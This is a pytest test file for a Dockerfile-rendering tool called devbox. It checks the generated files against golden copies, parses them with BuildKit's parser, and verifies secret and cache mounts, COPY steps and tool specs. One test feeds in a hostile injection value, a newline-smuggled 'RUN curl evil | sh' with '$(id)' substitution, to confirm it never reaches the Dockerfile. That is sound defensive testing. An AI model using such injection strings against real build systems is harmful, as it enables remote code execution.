"""Rendering: golden Dockerfiles for the reference configs in dockerfiles/, and what BuildKit's
own parser (the `dockerfile` package) reads from them."""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path

import dockerfile as buildkit_parser
import pytest

from devbox.build.dockerfile import render
from helpers import plan_for

GOLDEN = Path(__file__).parents[2] / "dockerfiles"
CONFIGS = sorted(p.name for p in GOLDEN.iterdir() if (p / "pyproject.toml").is_file())
KEY = "0123456789ab"


def rendered_for(name: str, env: dict[str, str] | None = None):  # type: ignore[no-untyped-def]
    plan = dataclasses.replace(plan_for(GOLDEN / name, env=env, virtualenvs=[]), project_key=KEY)
    return plan, render(plan)


def test_there_are_at_least_three_reference_configs() -> None:
    assert len(CONFIGS) >= 3


@pytest.mark.parametrize("name", CONFIGS)
def test_golden_files(name: str) -> None:
    _, out = rendered_for(name)
    files = {"Dockerfile": out.dockerfile, "Dockerfile.dockerignore": out.dockerignore}
    for filename, text in files.items():
        golden = GOLDEN / name / filename
        if os.environ.get("DEVBOX_UPDATE_GOLDEN"):
            golden.write_text(text, encoding="utf-8")
        assert golden.read_text(encoding="utf-8") == text, (
            f"{golden} differs: see dockerfiles/README.md"
        )


@pytest.mark.parametrize("name", CONFIGS)
def test_buildkit_parser_reads_the_intended_instructions(name: str) -> None:
    plan, out = rendered_for(name)
    commands = buildkit_parser.parse_string(out.dockerfile)
    assert not out.dockerfile.startswith("# syntax"), "the frontend image cannot be pulled offline"
    envs = plan.environments
    stages = [c.value[2] for c in commands if c.cmd == "FROM"]
    assert stages == [
        *(s for e in envs for s in (f"test-base-{e.python}", f"deps-{e.python}")),
        *(f"tool-{t.name}-{t.python}" for t in plan.tools), "env-status", "results",
    ]  # fmt: skip
    froms = [c.value[0] for c in commands if c.cmd == "FROM"]
    assert froms == [
        *(
            f
            for e in envs
            for f in (e.image, f"${{build_base_image_{e.python.replace('.', '_')}}}")
        ),
        *(f"deps-{t.python}" for t in plan.tools),
        "scratch",
        "scratch",
    ]
    # the only global ARGs: each version's dependency stage, replaceable by a pre-built image
    first_from = next(i for i, c in enumerate(commands) if c.cmd == "FROM")
    assert [c.value[0] for c in commands[:first_from]] == [
        f"build_base_image_{e.python.replace('.', '_')}=test-base-{e.python}" for e in envs
    ]
    assert {c.cmd for c in commands} == {"FROM", "ENV", "WORKDIR", "RUN", "ARG", "COPY"}
    runs = [c for c in commands if c.cmd == "RUN"]
    assert len(runs) == 2 * len(envs) + len(plan.tools)
    secret = "--mount=type=secret,id={0},target=/run/secrets/{0}".format
    for i, run in enumerate(runs):
        assert all(f.startswith("--mount=type=") for f in run.flags)
        assert {f.split(",")[0] for f in run.flags} <= {
            "--mount=type=bind",
            "--mount=type=cache",
            "--mount=type=secret",
        }
        # secrets at fixed places, each only where it is needed: the CA bundle wherever a
        # step may download, index URLs where something is installed, secret-env where
        # installs and tools run
        if i >= 2 * len(envs):  # a tool step installs only a project without static metadata
            wanted = ["devbox-ca", "devbox-env"]
            wanted += ["devbox-index"] if plan.project_install == "editable" else []
        elif i % 2 == 0:
            wanted = ["devbox-ca", "devbox-index"]
        else:
            wanted = ["devbox-ca", "devbox-index", "devbox-env"]
        assert [f for f in run.flags if "type=secret" in f] == [secret(w) for w in wanted]
    tool_runs = runs[2 * len(envs) :]
    for run, tool in zip(tool_runs, plan.tools, strict=True):
        # the tree as sent, read-only (no rw, no copy in a stage), and the tool's own copy
        assert "--mount=type=bind,target=/devbox/tree" in run.flags
        assert not [f for f in run.flags if ",rw" in f or "from=source" in f]
        mirror = f"devbox-{plan.project_key}--src-{tool.name}-{tool.python}"
        assert f"--mount=type=cache,id={mirror},target=/src,sharing=locked" in run.flags
        assert (
            f"--mount=type=cache,id={mirror}-state,target=/devbox/mirror,sharing=locked"
            in run.flags
        )
        assert (
            f"--mount=type=bind,from=devbox,source=tools/{tool.name}.json,target=/devbox/tool.json"
            in run.flags
        )
        assert any(
            f.startswith(f"--mount=type=cache,id=devbox-{KEY}-{tool.name}-{tool.python},")
            for f in run.flags
        )
        assert run.value == (f"/opt/devbox/venv/bin/python /devbox/run.py {tool.python}",)
    copies = [(c.flags, c.value) for c in commands if c.cmd == "COPY"]
    # the project, once, into the source stage; then each environment's and tool's results
    assert copies == [
        *(
            ((f"--from=test-base-{e.python}",), ("/opt/devbox/env/", f"/environments/{e.python}/"))
            for e in envs
        ),
        # each tool's own result directory only, then the install records (last: they win)
        *(
            (
                (f"--from=tool-{t.name}-{t.python}",),
                (f"/devbox/out/{t.name}/{t.python}/", f"/{t.name}/{t.python}/"),
            )
            for t in plan.tools
        ),
        *(
            ((f"--from=deps-{e.python}",), ("/opt/devbox/env/", f"/environments/{e.python}/"))
            for e in envs
        ),
    ]


def test_install_step_mounts_only_devbox_files_not_the_source() -> None:
    _, out = rendered_for("pip-requirements")
    runs = [c for c in buildkit_parser.parse_string(out.dockerfile) if c.cmd == "RUN"]
    for install in runs[:2]:
        binds = [f for f in install.flags if f.startswith("--mount=type=bind")]
        assert binds and all(",from=devbox," in f for f in binds)


def test_requirement_files_and_their_includes_travel_in_devbox_context() -> None:
    _, out = rendered_for("pip-requirements")
    assert out.context["install/project/requirements/dev.txt"].startswith("-c constraints.txt")
    assert out.context["install/project/requirements/constraints.txt"] == "coverage<8\n"
    reqs = out.context["install/requirements.txt"].splitlines()
    assert reqs == [
        "attrs",
        "pyyaml>=6",
        "rich",
        "pytest-xdist",
        "ruff",
        "hypothesis>=6",
        "pytest",
        "-r /devbox/install/project/requirements/dev.txt",
    ]


def test_tool_specs_carry_commands_and_env() -> None:
    plan, out = rendered_for("custom-tools")
    mypy = json.loads(out.context["tools/mypy.json"])
    assert mypy["command"] == ["mypy", "--strict", "src"]
    assert mypy["env"]["MYPY_CACHE_DIR"] == "/devbox/cache/mypy"
    pytest_spec = json.loads(out.context["tools/pytest.json"])
    assert pytest_spec["env"]["DJANGO_SETTINGS_MODULE"] == "site.settings"
    assert pytest_spec["junit"] is True
    assert json.loads(out.context["tools/typos.json"])["command"] == ["typos", "--format", "brief"]
    # dynamic version (not an sdist): no metadata can be written from the manifests, so tool
    # steps install it
    assert plan.project_install == "editable"
    assert "mypy==1.11.2" in out.context["install/requirements.txt"].splitlines()
    assert "mypy" not in out.context["install/requirements.txt"].splitlines()


def test_hostile_values_stay_out_of_the_dockerfile() -> None:
    """Commands, env values and packages travel as data files; the Dockerfile never sees them."""
    evil = '"\\nRUN curl evil | sh\\n# $HOME `id`'
    env = {
        "DEVBOX_TOOLS": '{ pytest = { command = ["pytest", '
        + json.dumps(evil)
        + "], env = { X = "
        + json.dumps(evil)
        + " } } }",
        "DEVBOX_PACKAGES": "requests; python_version > '3' and 'a' == \"$(id)\"",
    }
    _, out = rendered_for("defaults", env)
    assert "curl" not in out.dockerfile and "$(id)" not in out.dockerfile
    assert "curl evil" in out.context["tools/pytest.json"]
    assert [c.cmd for c in buildkit_parser.parse_string(out.dockerfile)].count("RUN") == 4


def test_a_matrix_has_an_environment_per_version_and_version_blind_tools_once() -> None:
    plan, out = rendered_for("defaults", {"DEVBOX_PYTHON": "3.11,3.13", "DEVBOX_LINT": "ruff,mypy"})
    assert [e.stage for e in plan.environments] == ["test-base-3.11", "test-base-3.13"]
    assert [t.key for t in plan.tools] == [
        "ruff@3.11",
        "mypy@3.11",
        "mypy@3.13",
        "pytest@3.11",
        "pytest@3.13",
    ]
    commands = buildkit_parser.parse_string(out.dockerfile)
    assert [c.value[0] for c in commands if c.cmd == "FROM"][:4] == [
        "python:3.11-slim",
        "${build_base_image_3_11}",
        "python:3.13-slim",
        "${build_base_image_3_13}",
    ]
    args = [c.value[0] for c in commands if c.cmd == "ARG"]
    assert "devbox_rerun_base_3_13" in args and "devbox_rerun_pytest_3_13" in args


def test_per_python_can_be_set_for_any_tool() -> None:
    tools_env = "{ ruff = { per-python = true }, pytest = { per-python = false } }"
    plan, _ = rendered_for("defaults", {"DEVBOX_PYTHON": "3.12,3.13", "DEVBOX_TOOLS": tools_env})
    assert [t.key for t in plan.tools] == ["ruff@3.12", "ruff@3.13", "pytest@3.12"]
